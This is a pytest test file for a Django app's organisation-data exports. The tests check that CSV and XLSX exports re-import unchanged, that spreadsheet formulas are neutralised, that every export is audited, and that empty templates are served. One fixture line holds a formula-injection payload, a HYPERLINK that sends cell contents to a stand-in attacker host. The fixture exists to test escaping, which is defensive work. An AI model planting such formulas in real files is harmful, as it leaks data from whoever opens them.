"""Exports: the import's own columns (so an export re-imports unchanged),
formulas neutralised, every export in the audit log; empty templates."""

import pytest
from django_tenants.utils import schema_context

from core.models import AuditEvent
from organisation.models import Position, WorkUnit
from tests.organisation.tables import (
    WORK_UNIT_HEADER,
    count_shown,
    csv_rows,
    dry_run,
    problems_shown,
    xlsx_rows,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


def test_a_formula_in_a_name_is_exported_as_text(admin_client):
    with schema_context("lebak"):
        WorkUnit.objects.create(code="T-EVIL", name=FORMULA)
    client = admin_client("lebak")
    csv_export = csv_rows(client.get("/organisation/work-units/export/csv/").content)
    assert ["T-EVIL", f"'{FORMULA}", "dinas", "", "", "yes"] in csv_export
    xlsx_export = xlsx_rows(client.get("/organisation/work-units/export/xlsx/").content)
    assert ["T-EVIL", f"'{FORMULA}", "dinas", None, None, "yes"] in xlsx_export


def test_export_has_the_import_columns_and_the_tree(admin_client):
    rows = csv_rows(admin_client("lebak").get("/organisation/work-units/export/csv/").content)
    assert rows[0] == WORK_UNIT_HEADER
    assert ["SETDA-PEM", "Bagian Pemerintahan", "bagian", "SETDA", "", "yes"] in rows
    kecamatan_office = next(r for r in rows if r[0] == "KEC-360201")
    assert kecamatan_office[2:5] == ["kecamatan", "", "36.02.01"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["work-units", "positions", "areas"])
def test_an_export_imports_back_unchanged(admin_client, kind, file_format):
    with schema_context("lebak"):
        WorkUnit.objects.create(code="T-EVIL", name=FORMULA, is_active=False)
        Position.objects.create(code="T-POS", name="-Staf Khusus", is_active=False)
    client = admin_client("lebak")
    exported = client.get(f"/organisation/{kind}/export/{file_format}/").content
    html, review_url = dry_run(client, kind, f"export.{file_format}", exported)
    assert not problems_shown(html)
    assert (count_shown(html, "new"), count_shown(html, "updated")) == (0, 0)
    assert count_shown(html, "unchanged") > 10
    client.post(review_url)
    with schema_context("lebak"):
        assert WorkUnit.objects.get(code="T-EVIL").name == FORMULA
        assert Position.objects.get(code="T-POS").name == "-Staf Khusus"


@pytest.mark.parametrize("kind", ["work-units", "positions", "areas"])
def test_every_export_is_audited_with_kind_format_and_rows(admin_client, kind):
    client = admin_client("lebak")
    response = client.get(f"/organisation/{kind}/export/xlsx/")
    assert response["Content-Disposition"].endswith('.xlsx"')
    rows = len(xlsx_rows(response.content)) - 1
    with schema_context("lebak"):
        event = AuditEvent.objects.filter(action="export").latest("pk")
    key = kind.replace("-", "_")
    assert event.detail == {"kind": key, "format": "xlsx", "rows": rows}
    assert event.actor_email == "admin@lebak.test"
    assert rows > 10


def test_unknown_export_format_is_404(admin_client):
    assert admin_client("lebak").get("/organisation/work-units/export/pdf/").status_code == 404


@pytest.mark.parametrize(
    ("kind", "header"),
    [
        ("work-units", WORK_UNIT_HEADER),
        ("positions", ["code", "name", "kind", "active"]),
        ("areas", ["code", "name", "kind"]),
    ],
)
def test_template_is_an_empty_csv_with_the_import_columns(admin_client, kind, header):
    response = admin_client("lebak").get(f"/organisation/{kind}/template/")
    assert response["Content-Type"].startswith("text/csv")
    assert csv_rows(response.content) == [header]
